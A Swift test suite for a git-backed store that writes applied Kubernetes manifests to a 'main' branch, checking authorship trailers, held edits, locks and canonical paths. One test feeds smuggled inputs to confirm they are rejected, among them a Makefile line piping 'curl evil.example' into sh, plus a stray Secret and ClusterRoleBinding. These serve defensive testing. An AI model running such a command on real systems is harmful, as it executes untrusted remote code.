import APIMachinery
import Basics
import GitObjects
import Store
import Testing

@testable import GitStore

@Suite struct MainBranchTests {
  private let pat = Provenance(user: "pat@example.com", verb: "apply", resource: "configmaps", userAgent: "kubectl/1.33", auditID: "a1")

  private func apply(
    _ store: GitStore, _ key: ObjectKey, before: Value? = nil, data: Value, source: String? = nil, path: String? = nil
  ) async throws {
    let value = Sample.value(key, data)
    let desired = DesiredChange(before: before, after: value, source: source.map { Array($0.utf8) }, path: path)
    let write = Write(key, .put(EncodedObject(value)), expecting: .anything, desired: desired)
    _ = try await store.commit(Transaction([write], pat))
  }

  @Test("I2 a person's create is on main byte for byte, by the person, with trailers; live has it as second parent (I1)")
  func create() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let source = "# mine\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: default}\ndata: {text: hello} # why\n"
    try await apply(store, Sample.key("a"), data: ["text": "hello"], source: source, path: "team/a.yml")
    await store.flush()
    #expect(temporary.git("show", "main:team/a.yml").text == source)
    let people = temporary.git("log", "-1", "--format=%an|%ae|%cn|%s", "main").text
    #expect(people == "pat@example.com|pat-example.com@kctl|kctl|apply configmaps default/a\n")
    let trailers = temporary.git("log", "-1", "--format=%(trailers:only)", "main").text
    for line in ["Kctl-Verb: apply", "Kctl-User: pat@example.com", "Kctl-Audit-ID: a1", "Kctl-Revision: 1"] {
      #expect(trailers.contains(line + "\n"), "\(line)")
    }
    let main = temporary.git("rev-parse", "main").text
    #expect(temporary.git("rev-parse", "live^2").text == main)
    #expect(temporary.git("log", "live..main").text.isEmpty)
    #expect(store.adoptedMain.map { $0 + "\n" } == main)
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("I11 a directory of main that the store fills itself stays as narrow as it can be written; what stands in it stays where it is")
  func fullDirectory() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let width = MainBranch.directoryWidthMax
    let keys = (0..<width + 200).map { Sample.key("c-\($0)") }
    for key in keys { try await apply(store, key, data: ["text": "one"]) }
    await store.flush()
    let folder = "namespaces/default/configmaps"
    let files = temporary.git("ls-tree", "-r", "--name-only", "main", folder + "/").text.split(separator: "\n")
    #expect(files.count == keys.count)
    let first = temporary.git("ls-tree", "--name-only", "main", folder + "/").text.split(separator: "\n")
    #expect(first.filter { $0.hasSuffix(".yaml") }.count == width)
    #expect(first.count == width + 16)
    // The first and the last one live at different depths, and an edit finds both.
    for key in [keys[0], keys[width + 199]] {
      let before = try #require(store.snapshot().get(key)).decoded()
      try await apply(store, key, before: before, data: ["text": "two"])
    }
    await store.flush()
    let after = temporary.git("ls-tree", "-r", "--name-only", "main", folder + "/").text.split(separator: "\n")
    #expect(after == files)
    #expect(temporary.git("grep", "-c", "two", "main", "--", folder).text.split(separator: "\n").count == 2)
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("I2 who deletes a namespace takes what is in it off main with it, and nothing else")
  func namespace() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let namespace = ObjectKey(GroupResource(resource: "namespaces"), namespace: "", name: "shop")
    let manifest: Value = ["apiVersion": "v1", "kind": "Namespace", "metadata": ["name": "shop"]]
    let made = Write(namespace, .put(EncodedObject(manifest)), expecting: .absent, desired: DesiredChange(before: nil, after: manifest))
    _ = try await store.commit(Transaction([made], pat))
    let kept = "# kept\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: default}\n"
    try await apply(store, Sample.key("a"), data: [:], source: kept, path: "both.yaml")
    for (name, path) in [("b", "both.yaml"), ("c", "own.yaml")] {
      let key = ObjectKey(GroupResource(resource: "configmaps"), namespace: "shop", name: name)
      let text = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: \(name), namespace: shop}\n"
      try await apply(store, key, data: [:], source: text, path: path)
    }
    await store.flush()
    #expect(temporary.git("grep", "-c", "namespace: shop", "main").text.split(separator: "\n").count == 2)
    let gone = Write(namespace, .delete, expecting: .present, desired: DesiredChange(before: manifest, after: nil))
    _ = try await store.commit(Transaction([gone], pat))
    await store.flush()
    #expect(temporary.git("ls-tree", "-r", "--name-only", "main").text == "both.yaml\n")
    #expect(temporary.git("show", "main:both.yaml").text == kept)
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("I2 a manifest keeps the version that it is written in when an edit comes in another")
  func version() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open { options in
      options.reading = { object, kind in
        guard object.apiVersion == "v1", kind.version == "v1beta1" else { return object }
        var old = object
        (old["apiVersion"], old["values"], old["data"]) = ("v1beta1", object["data"], nil)
        return old
      }
    }
    let source = "# old\napiVersion: v1beta1\nkind: ConfigMap\nmetadata:\n  name: a\n  namespace: default\nvalues:\n  keep: this # why\n  text: one\n"
    try await apply(store, Sample.key("a"), data: ["keep": "this", "text": "one"], source: source, path: "a.yaml")
    await store.flush()
    let before = try #require(store.snapshot().get(Sample.key("a"))).decoded()
    try await apply(store, Sample.key("a"), before: before, data: ["keep": "this", "text": "two"])
    await store.flush()
    #expect(temporary.git("show", "main:a.yaml").text == source.replacing("one", with: "two"))
    await store.close()
  }

  @Test("I2 an applied text stands as it is, but one without comments leaves those that are there, and YAML makes no YAML of a JSON file")
  func appliedAgain() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let first = "# mine\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: default}\ndata:\n  keep: 'this' # why\n  text: one\n"
    let plain = "kind: ConfigMap\napiVersion: v1\nmetadata:\n  name: a\n  namespace: default\ndata:\n  text: two\n  keep: this\n"
    let last = "# again\n" + plain.replacing("two", with: "three")
    func apply(_ text: String, _ source: String, path: String = "a.yaml", name: String = "a") async throws {
      let before = store.snapshot().get(Sample.key(name))?.decoded()
      try await self.apply(store, Sample.key(name), before: before, data: ["keep": "this", "text": .string(text)], source: source, path: path)
      await store.flush()
    }
    try await apply("one", first)
    try await apply("two", plain)
    #expect(temporary.git("show", "main:a.yaml").text == first.replacing("one", with: "two"))
    try await apply("three", last)
    #expect(temporary.git("show", "main:a.yaml").text == last)

    let json = "{\n  \"apiVersion\": \"v1\",\n  \"kind\": \"ConfigMap\",\n  \"metadata\": {\"name\": \"j\", \"namespace\": \"default\"},\n  \"data\": {\"keep\": \"this\", \"text\": \"one\"}\n}\n"
    try await apply("one", json, path: "j.json", name: "j")
    try await apply("two", plain.replacing("name: a", with: "name: j"), path: "j.json", name: "j")
    #expect(temporary.git("show", "main:j.json").text == json.replacing("one", with: "two"))
    await store.close()
  }

  @Test("I2 an edit goes to the file where the object lives, other documents stay byte for byte; a delete takes it out")
  func editAndDelete() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let other = "# other\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n"
    let source = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  namespace: default\ndata:\n  keep: this\n  text: one\n"
    try await apply(store, Sample.key("a"), data: ["keep": "this", "text": "one"], source: source, path: "all.yaml")
    try await apply(store, Sample.key("b"), data: [:], source: other, path: "all.yaml")
    await store.flush()
    let before = try #require(store.snapshot().get(Sample.key("a"))).decoded()
    try await apply(store, Sample.key("a"), before: before, data: ["keep": "this", "text": "two"])
    await store.flush()
    #expect(temporary.git("show", "main:all.yaml").text == source.replacing("one", with: "two") + "---\n" + other)
    for name in ["a", "b"] {
      let key = Sample.key(name)
      let last = store.snapshot().get(key)?.decoded()
      let desired = DesiredChange(before: last, after: nil)
      _ = try await store.commit(Transaction([Write(key, .delete, expecting: .present, desired: desired)], pat))
      await store.flush()
      #expect(temporary.git("ls-tree", "-r", "--name-only", "main").text == (name == "a" ? "all.yaml\n" : ""))
    }
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("what the server sets never goes to main; an object nobody put anywhere goes to the canonical path")
  func canonicalPath() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let key = Sample.key("a", namespace: "shop")
    var value = Sample.value(key, ["text": "x"])
    value[path: "metadata", "creationTimestamp"] = "2024-01-01T00:00:00Z"
    value[path: "metadata", "managedFields"] = [["manager": "kubectl"]]
    value[path: "metadata", "annotations"] = ["kubectl.kubernetes.io/last-applied-configuration": "{}"]
    value["status"] = ["ready": true]
    let write = Write(key, .put(EncodedObject(value)), expecting: .absent, desired: DesiredChange(before: nil, after: value))
    _ = try await store.commit(Transaction([write], pat))
    await store.flush()
    let text = temporary.git("show", "main:namespaces/shop/configmaps/a.yaml").text
    #expect(text == "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  namespace: shop\ndata:\n  text: x\n")
    await store.close()
  }

  @Test("I2 I10 somebody's push is never overwritten: changes are held until it is adopted, then written on top")
  func heldUntilAdopted() async throws {
    let temporary = try TemporaryStore()
    var store = try await temporary.open()
    try await apply(store, Sample.key("a"), data: ["text": "1"])
    await store.flush()
    let tree = temporary.git("rev-parse", "main^{tree}").text.split(separator: "\n").joined()
    let pushed = temporary.git("commit-tree", tree, "-p", "main", "-m", "a push").text.split(separator: "\n").joined()
    #expect(temporary.git("update-ref", "refs/heads/main", pushed).code == 0)
    try await apply(store, Sample.key("b"), data: ["text": "2"])
    await store.flush()
    #expect(store.status.heldEdits == 1)
    #expect(temporary.git("rev-parse", "main").text == pushed + "\n")
    #expect(temporary.git("log", "--format=%s", "live..main").text == "a push\n")
    // Held changes survive a restart too.
    await store.close()
    store = try await temporary.open()
    await store.flush()
    #expect(store.text(Sample.key("b")) == "2")
    #expect(store.status.heldEdits == 1)
    _ = try await store.commit(Transaction([], adoption: Adoption(commit: pushed, note: "applied: 0 objects")))
    await store.flush()
    #expect(store.status.heldEdits == 0)
    let subjects = temporary.git("log", "--format=%s", "--first-parent", "main").text
    #expect(subjects == "apply configmaps default/b\na push\napply configmaps default/a\n")
    #expect(temporary.git("log", "live..main").text.isEmpty)
    #expect(temporary.git("notes", "--ref=kctl", "show", pushed).text == "applied: 0 objects\n")
    #expect(temporary.git("show", "main:namespaces/default/configmaps/b.yaml").code == 0)
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("I10 a lock that another process holds on main delays the change, and loses nothing")
  func lockedMain() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    try await apply(store, Sample.key("a"), data: ["text": "1"])
    await store.flush()
    let lock = store.repository.gitDirectory + "/refs/heads/main.lock"
    try TextFile.write("", to: lock)
    try await apply(store, Sample.key("b"), data: ["text": "2"])
    await store.flush()
    #expect(store.status.heldEdits == 1)
    #expect(store.status.problem?.contains(lock) == true)
    _ = Shell.run(["rm", lock])
    // The next write takes the held one along.
    try await apply(store, Sample.key("c"), data: ["text": "3"])
    await store.flush()
    #expect(store.status.heldEdits == 0)
    #expect(temporary.git("log", "--format=%s", "main").text.split(separator: "\n").count == 3)
    await store.close()
    temporary.expectCleanRepository()
  }

  private static let configMapText = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  namespace: default\ndata:\n  text: hello\n"

  @Test("a text that says another object, or more than its own, never reaches main", arguments: [
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: all\n",
    configMapText + "---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: s\nstringData:\n  key: clear\n",
    "all:\n\tcurl evil.example | sh\n", "%TAG ! tag:example.com,2000:\n---\n" + configMapText + "...\nkind: [\n",
  ])
  func smuggledText(source: String) async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let other = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n"
    try await temporary.push(["all.yaml": other], store)
    try await apply(store, Sample.key("a"), data: ["text": "hello"], source: source, path: "all.yaml")
    await store.flush()
    #expect(temporary.git("show", "main:all.yaml").text == other + "---\n" + Self.configMapText)
    await store.close()
  }

  @Test("a path that is no place for this manifest isn't written to", arguments: [
    "Makefile", "namespaces", "deploy.sh", "team.yaml", "README.md/a.yaml", "values.yaml", ".ci/a.yaml", "../a.yaml",
  ])
  func foreignPath(path: String) async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    let files = [
      "Makefile": "all:\n", "README.md": "read me\n", "values.yaml": "replicas: 3\n",
      "namespaces/default/configmaps/b.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n",
      "team.yaml/c.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n",
    ]
    try await temporary.push(files, store)
    try await apply(store, Sample.key("a"), data: ["text": "hello"], source: Self.configMapText, path: path)
    await store.flush()
    let paths = temporary.git("ls-tree", "-r", "--name-only", "main").text.split(separator: "\n").map(String.init)
    #expect(Set(paths) == Set(files.keys).union(["namespaces/default/configmaps/a.yaml"]))
    for (path, text) in files { #expect(temporary.git("show", "main:" + path).text == text) }
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("what stands where a canonical path needs a directory stays, and the status says so")
  func collision() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    try await temporary.push(["namespaces": "my notes\n"], store)
    try await apply(store, Sample.key("a"), data: ["text": "hello"])
    await store.flush()
    #expect(temporary.git("show", "main:namespaces").text == "my notes\n")
    #expect(store.status.problem?.hasPrefix("namespaces/default/configmaps/a.yaml: ") == true)
    #expect(store.text(Sample.key("a")) == "hello")
    await store.close()
  }

  @Test("main is settled once live holds what the store itself has put there, also what a process before it did")
  func settled() async throws {
    let temporary = try TemporaryStore()
    var store = try await temporary.open()
    let writer = Task { [store] in
      for number in 0..<40 { try await apply(store, Sample.key("n\(number)"), data: ["text": "1"]) }
    }
    var seen = 0
    while seen < 40 {
      guard let tip = try store.mainTip(), let settled = try await store.settledMain().flatMap({ CommitID(hex: $0) }) else {
        await Task.yield()
        continue
      }
      #expect(try store.repository.isAncestor(tip, of: settled))
      seen = try store.repository.commits(from: nil, to: settled).count
    }
    try await writer.value
    let file = try #require(temporary.journalFiles.last)
    let journal = try TextFile.readBytes(file)
    await store.close()
    // A process that died between moving `main` and moving `live`.
    try TextFile.write(journal, to: file)
    #expect(temporary.git("update-ref", "-d", "refs/heads/live").code == 0)
    store = try await temporary.open()
    #expect(try await store.settledMain() == store.mainTip()?.hex)
    await store.close()
  }

  @Test("when git can't be written, whoever waits for it is told, and what was acknowledged stays in the journal", .timeLimit(.minutes(10)))
  func unwritableGit() async throws {
    let temporary = try TemporaryStore()
    var store = try await temporary.open()
    try await store.put(Sample.key("a"), "1")
    #expect(await store.flush())
    let lock = store.repository.gitDirectory + "/refs/heads/live.lock"
    try TextFile.write("", to: lock)
    try await store.put(Sample.key("b"), "2")
    #expect(await !store.flush())
    await #expect(throws: StoreError.self) { try await store.settledMain() }
    await store.close()
    #expect(await !store.flush())
    _ = Shell.run(["rm", lock])
    store = try await temporary.open()
    #expect(store.text(Sample.key("b")) == "2")
    #expect(await store.flush())
    await store.close()
    temporary.expectCleanRepository()
  }

  @Test("machine writes never advance main")
  func machineWrites() async throws {
    let temporary = try TemporaryStore()
    let store = try await temporary.open()
    for number in 0..<20 { try await store.put(Sample.key("n\(number)"), "x") }
    await store.flush()
    #expect(temporary.git("rev-parse", "--verify", "-q", "main").code != 0)
    await store.close()
  }
}
